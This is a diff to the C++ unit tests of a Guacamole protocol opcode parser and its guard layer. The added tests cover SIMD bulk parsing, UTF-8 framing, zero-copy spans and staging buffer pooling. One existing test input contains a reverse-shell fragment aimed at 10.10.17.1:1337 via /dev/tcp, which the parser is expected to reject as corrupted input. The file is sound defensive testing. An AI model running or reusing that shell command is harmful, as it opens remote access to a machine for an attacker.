@@ -22,8 +22,24 @@
 #include "../include/guard_opcode_parser.h"
 #include <cassert>
 #include <iostream>
+#include <memory>
 #include <stdlib.h>
 #include <string>
+#include <utility>
+#include <vector>
+
+/**
+ * @brief The guard with the ASCII-only character policy (GUARD_CHARSET=ascii)
+ */
+GuardOpcodeParser *ascii_guard_parser() {
+    static const GuardPolicyStore *store = [] {
+        setenv("GUARD_CHARSET", "ascii", 1);
+        auto *built = new GuardPolicyStore(GuardPolicy::Builtin());
+        unsetenv("GUARD_CHARSET");
+        return built;
+    }();
+    return new GuardOpcodeParser(*store);
+}
 
 /**
  * @brief Offers string representations of the available states
@@ -48,15 +64,16 @@ std::string cvt_state(ParserState state) {
  * @brief Provides assertion for parser state, and logs to stderr for false assertions
  * @param input: message to parse
  * @param expected: expected state
- * @param parser: *OpcodeParser, in case the parser needs to be re-used across function calls
+ * @param parser: the parser, in case it needs to be re-used across function calls
  */
+template <typename Parser = GuardOpcodeParser>
 void test_parsing(std::string input, ParserState expected,
-                  OpcodeParser *parser = nullptr) {
+                  Parser *parser = nullptr) {
     // The opcode allowlist now lives in GuardOpcodeParser, so the default parser
     // is the guard's. Framing-only tests that need the plain base pass an
     // explicit OpcodeParser.
     if (parser == nullptr)
-        parser = new GuardOpcodeParser();
+        parser = new Parser();
     ParserState result = parser->Parse(input.data(), input.size());
 
     if (result != expected) {
@@ -157,9 +174,14 @@ void test_invalid_guacamole() {
                  "/dev/tcp/10.10.17.1/1337 0>&1,1.1,2.OK,1.0;",
                  ParserState::STREAM_CORRUPTED);
 
-    // Invalid characters
-    test_parsing("10.ὠnonsenseὠ;", ParserState::STREAM_CORRUPTED);
-    test_parsing("9.😊nonsense;", ParserState::STREAM_CORRUPTED);
+    // Non-ASCII opcodes: framed by code point, so well-formed UTF-8 reaches
+    // the allowlist (and is denied); an ASCII-only policy corrupts instead.
+    test_parsing("10.ὠnonsenseὠ;", ParserState::DENIED_DATA);
+    test_parsing("9.😊nonsense;", ParserState::DENIED_DATA);
+    test_parsing("10.ὠnonsenseὠ;", ParserState::STREAM_CORRUPTED,
+                 ascii_guard_parser());
+    test_parsing("9.😊nonsense;", ParserState::STREAM_CORRUPTED,
+                 ascii_guard_parser());
 
     // No closing semicolon after first opcode
     test_parsing("6.select3.foo;", ParserState::STREAM_CORRUPTED);
@@ -167,8 +189,7 @@ void test_invalid_guacamole() {
     // No commas
     test_parsing("5.video,3.foo6.barbaz;", ParserState::STREAM_CORRUPTED);
     test_parsing("7.connect3.doc5.frotz;", ParserState::STREAM_CORRUPTED);
-    test_parsing("4.argv,1.5,10.text/plain9.font-size;", ParserState::STREAM_CORRUPTED,
-                 nullptr);
+    test_parsing("4.argv,1.5,10.text/plain9.font-size;", ParserState::STREAM_CORRUPTED);
 
     // Invalid guacamole, with partials
     {
@@ -253,7 +274,7 @@ void test_denied_excision() {
  * is denied (and excised), leaving the rest of the stream intact. Blobs not tied
  * to a clipboard stream are not capped here. The cap is keyed on the stream index
  * shared by the `clipboard` open and the `blob`, so it is enforced through the
- * GuardOpcodeParser hooks (passed in as the base pointer).
+ * GuardOpcodeParser hooks.
  */
 void test_length_bound_opcodes() {
     const std::string cap(GuardOpcodeParser::MAX_CLIPBOARD_BYTES, 'a');
@@ -288,6 +309,277 @@ void test_length_bound_opcodes() {
       test_parsing("4.blob,1.0,9.abcdefghi;", ParserState::DENIED_DATA, &p); }
 }
 
+/**
+ * @brief Exposes the index of the byte the parser stopped at
+ */
+class IndexProbe : public OpcodeParser {
+  public:
+    using OpcodeParser::CurrentIndex;
+};
+
+/**
+ * @brief Tests the bulk (SIMD) data path: long elements, non-ASCII bytes at
+ * every position across vector-width boundaries, and elements split over
+ * several Parse() calls
+ */
+void test_bulk_data() {
+    // Lengths straddling the 8/16/32-byte steps and the scalar tail.
+    for (size_t n : {1, 7, 8, 9, 15, 16, 17, 31, 32, 33, 63, 64, 65, 200}) {
+        const std::string value(n, 'x');
+        const std::string instr =
+            "4.argv,1.0," + std::to_string(n) + "." + value + ";";
+        test_parsing(instr, ParserState::READING_LENGTH, new OpcodeParser());
+
+        // A stray continuation byte anywhere in the value corrupts the stream,
+        // and the parser stops on exactly that byte.
+        const size_t value_at = instr.size() - 1 - n;
+        for (size_t bad = 0; bad < n; ++bad) {
+            std::string corrupt = instr;
+            corrupt[value_at + bad] = static_cast<char>(0x80 | (bad & 0x3F));
+            IndexProbe probe;
+            assert(probe.Parse(corrupt.data(), corrupt.size()) ==
+                   ParserState::STREAM_CORRUPTED);
+            assert(probe.CurrentIndex() == value_at + bad);
+        }
+
+        // Any split of the instruction over two calls parses the same.
+        for (size_t cut = 0; cut <= instr.size(); ++cut) {
+            OpcodeParser split;
+            assert(split.Parse(instr.data(), cut) !=
+                   ParserState::STREAM_CORRUPTED);
+            assert(split.Parse(instr.data() + cut, instr.size() - cut) ==
+                   ParserState::READING_LENGTH);
+        }
+    }
+
+    // A length prefix split mid-digits resumes correctly.
+    OpcodeParser digits;
+    test_parsing("4.argv,1.0,1", ParserState::READING_LENGTH, &digits);
+    test_parsing("2.abcdefghijkl;", ParserState::READING_LENGTH, &digits);
+
+    // An over-long length is caught on the digit that exceeds the bound.
+    IndexProbe probe;
+    std::string toolarge = "4.argv,99999.x;";
+    assert(probe.Parse(toolarge.data(), toolarge.size()) ==
+           ParserState::STREAM_CORRUPTED);
+    assert(probe.CurrentIndex() == 10);
+}
+
+/**
+ * @brief Captures the last argument the parser handed to OnArgument
+ */
+class ArgProbe : public OpcodeParser {
+  public:
+    using OpcodeParser::CurrentIndex;
+    std::string last_arg;
+
+  protected:
+    bool OnArgument(const GuacElement &arg) override {
+        last_arg.assign(arg.ptr, arg.len);
+        return true;
+    }
+};
+
+/**
+ * @brief Tests UTF-8 framing: lengths count code points, multi-byte values
+ * split anywhere, and malformed sequences corrupt on the offending byte
+ */
+void test_utf8_data() {
+    // 2-, 3- and 4-byte sequences, each value 4 code points long.
+    for (const std::string value : {"ab\xc3\xa9z", "\xe2\x82\xac\xe2\x82\xacxy",
+                                    "\xf0\x9f\x98\x8az\xf4\x8f\xbf\xbfq"}) {
+        const std::string instr = "4.argv,4." + value + ";";
+        for (size_t cut = 0; cut <= instr.size(); ++cut) {
+            ArgProbe split;
+            assert(split.Parse(instr.data(), cut) !=
+                   ParserState::STREAM_CORRUPTED);
+            assert(split.Parse(instr.data() + cut, instr.size() - cut) ==
+                   ParserState::READING_LENGTH);
+            assert(split.last_arg == value);
+        }
+    }
+
+    // Long mixed values cover whole 32-byte blocks, blocks ending
+    // mid-sequence and the block/tail hand-over.
+    const std::string pieces[] = {"a", "\xc3\xa9", "\xe2\x82\xac",
+                                  "\xf0\x9f\x98\x8a"};
+    for (size_t n : {1, 31, 32, 33, 64, 100, 257}) {
+        for (size_t mix = 0; mix < 4; ++mix) {
+            std::string value;
+            for (size_t k = 0; k < n; ++k)
+                value += pieces[(k * (mix + 1) + k / 7) % 4];
+            const std::string instr =
+                "4.argv," + std::to_string(n) + "." + value + ";";
+            ArgProbe probe;
+            assert(probe.Parse(instr.data(), instr.size()) ==
+                   ParserState::READING_LENGTH);
+            assert(probe.last_arg == value);
+
+            // One code point short or long misframes the element.
+            const std::string shorter =
+                "4.argv," + std::to_string(n + 1) + "." + value + ";";
+            assert(ArgProbe().Parse(shorter.data(), shorter.size()) !=
+                   ParserState::READING_LENGTH);
+        }
+    }
+
+    // Malformed sequences, each stopping at the given offset into the value.
+    const std::pair<std::string, size_t> bad[] = {
+        {"\xc0\xaf", 0},         // overlong 2-byte lead
+        {"\xe0\x80\xaf", 1},     // overlong 3-byte form
+        {"\xed\xa0\x80", 1},     // UTF-16 surrogate
+        {"\xf4\x90\x80\x80", 1}, // above U+10FFFF
+        {"\xf5\x80\x80\x80", 0}, // invalid lead
+        {"\x80", 0},             // stray continuation
+        {"\xe2\x82x", 2},        // truncated sequence
+    };
+    for (const auto &[seq, at] : bad) {
+        for (size_t pad : {0, 40}) {
+            const std::string value = std::string(pad, 'a') + seq;
+            const std::string instr = "4.argv,99." + value + ";";
+            IndexProbe probe;
+            assert(probe.Parse(instr.data(), instr.size()) ==
+                   ParserState::STREAM_CORRUPTED);
+            assert(probe.CurrentIndex() == 10 + pad + at);
+        }
+    }
+}
+
+/**
+ * @brief Records, for each element, whether the hook's span pointed into the
+ * buffer given to Parse() and what it held
+ */
+class SpanProbe : public OpcodeParser {
+  public:
+    const char *begin = nullptr, *end = nullptr; // the current Parse() buffer
+    std::vector<std::pair<bool, std::string>> seen;
+
+    ParserState Feed(const std::string &chunk) {
+        begin = chunk.data();
+        end = chunk.data() + chunk.size();
+        return Parse(chunk.data(), chunk.size());
+    }
+
+  protected:
+    bool OnInstructionBegin(const GuacElement &e) override { return Record(e); }
+    bool OnArgument(const GuacElement &e) override { return Record(e); }
+
+  private:
+    bool Record(const GuacElement &e) {
+        seen.emplace_back(e.ptr >= begin && e.ptr + e.len <= end,
+                          std::string(e.View()));
+        return true;
+    }
+};
+
+/**
+ * @brief Hooks get spans into the input buffer; only elements split across
+ * Parse() calls come from the staging buffer
+ */
+void test_zero_copy() {
+    const std::string input =
+        "4.blob,1.0,12.\xe2\x82\xac" + std::string(11, 'x') + ";3.key,1.1,1.1;";
+    SpanProbe whole;
+    assert(whole.Feed(input) == ParserState::READING_LENGTH);
+    assert(whole.seen.size() == 6);
+    for (const auto &[in_buffer, value] : whole.seen)
+        assert(in_buffer);
+    assert(whole.seen[2].second == "\xe2\x82\xac" + std::string(11, 'x'));
+
+    // Split inside the blob payload (and inside its first code point): that
+    // element is staged and still reads back whole, the rest stay spans.
+    for (size_t cut : {15, 16, 20}) {
+        SpanProbe split;
+        assert(split.Feed(input.substr(0, cut)) == ParserState::READING_DATA);
+        assert(split.Feed(input.substr(cut)) == ParserState::READING_LENGTH);
+        assert(split.seen.size() == 6);
+        for (size_t k = 0; k < split.seen.size(); ++k)
+            assert(split.seen[k].first == (k != 2));
+        assert(split.seen[2].second == whole.seen[2].second);
+    }
+
+    // Complete element, delimiter in the next call: staged as well.
+    SpanProbe delim;
+    assert(delim.Feed("3.key,2.65") == ParserState::EXPECT_DELIM);
+    assert(delim.Feed(",1.1;") == ParserState::READING_LENGTH);
+    assert(delim.seen[1].second == "65" && !delim.seen[1].first);
+}
+
+/**
+ * @brief One guard parser frames interleaved channels, each resuming from its
+ * own GuardChannelState, and borrows staging only while an element is split
+ */
+void test_channel_states() {
+    GuardOpcodeParser guard;
+    GuardChannelState a, b;
+
+    auto parse = [&guard](GuardChannelState &channel, std::string chunk) {
+        ParserState state = guard.Parse(channel, chunk.data(), chunk.size());
+        if (state == ParserState::DENIED_DATA) {
+            size_t len = chunk.size();
+            guard.Excise(chunk.data(), len);
+            chunk.resize(len);
+        }
+        return std::make_pair(state, chunk);
+    };
+
+    // Both channels stop mid-element; each holds a staging buffer.
+    assert(parse(a, "5.mouse,3.98").first == ParserState::READING_DATA);
+    assert(parse(b, "9.clipboard,1.0,10.text/").first ==
+           ParserState::READING_DATA);
+    assert(guard.StagingInUse() == 2);
+
+    // Whole instructions on a third channel neither disturb them nor borrow.
+    GuardChannelState c;
+    assert(parse(c, "3.key,3.109,1.1;").first == ParserState::READING_LENGTH);
+    assert(parse(c, "4.rect;3.key,3.109,1.1;") ==
+           std::make_pair(ParserState::DENIED_DATA,
+                          std::string("3.key,3.109,1.1;")));
+    assert(guard.StagingInUse() == 2);
+
+    assert(parse(a, "8,3.369,1.0;").first == ParserState::READING_LENGTH);
+    assert(guard.StagingInUse() == 1);
+    assert(parse(b, "plain;4.blob,1.0,4.abcd;").first ==
+           ParserState::READING_LENGTH);
+    assert(guard.StagingInUse() == 0);
+
+    // The clipboard stream opened on b is b's alone: a blob on a is denied.
+    assert(parse(a, "4.blob,1.0,4.abcd;").first == ParserState::DENIED_DATA);
+
+    // Releasing a channel mid-element returns its buffer and starts it over.
+    assert(parse(a, "4.size,4.16").first == ParserState::READING_DATA);
+    assert(guard.StagingInUse() == 1);
+    guard.Release(a);
+    assert(guard.StagingInUse() == 0);
+    assert(parse(a, "3.key,3.109,1.1;").first == ParserState::READING_LENGTH);
+}
+
+/**
+ * @brief Channels left mid-element borrow staging buffers, and once they are
+ * released the pool gives back all but POOL_KEEP of them
+ */
+void test_staging_high_water() {
+    GuardOpcodeParser guard;
+    const size_t n = 4 * GuardOpcodeParser::POOL_KEEP;
+    std::unique_ptr<GuardChannelState[]> channels(new GuardChannelState[n]);
+    const std::string split = "9.clipboard,1.0,10.text/";
+    for (size_t i = 0; i < n; ++i)
+        assert(guard.Parse(channels[i], split.data(), split.size()) ==
+               ParserState::READING_DATA);
+    assert(guard.StagingInUse() == n);
+    assert(guard.StagingHeld() == n);
+
+    for (size_t i = 0; i < n; ++i)
+        guard.Release(channels[i]);
+    assert(guard.StagingInUse() == 0);
+    assert(guard.StagingHeld() == GuardOpcodeParser::POOL_KEEP);
+
+    // The kept buffers are reused.
+    assert(guard.Parse(channels[0], "5.mouse,3.98", 12) ==
+           ParserState::READING_DATA);
+    assert(guard.StagingHeld() == GuardOpcodeParser::POOL_KEEP);
+}
+
 /**
  * @brief Unit tests for the parser
  */
@@ -302,5 +594,15 @@ int main(int argc, char **argv) {
 
     test_length_bound_opcodes();
 
+    test_bulk_data();
+
+    test_utf8_data();
+
+    test_zero_copy();
+
+    test_channel_states();
+
+    test_staging_high_water();
+
     return 0;
 }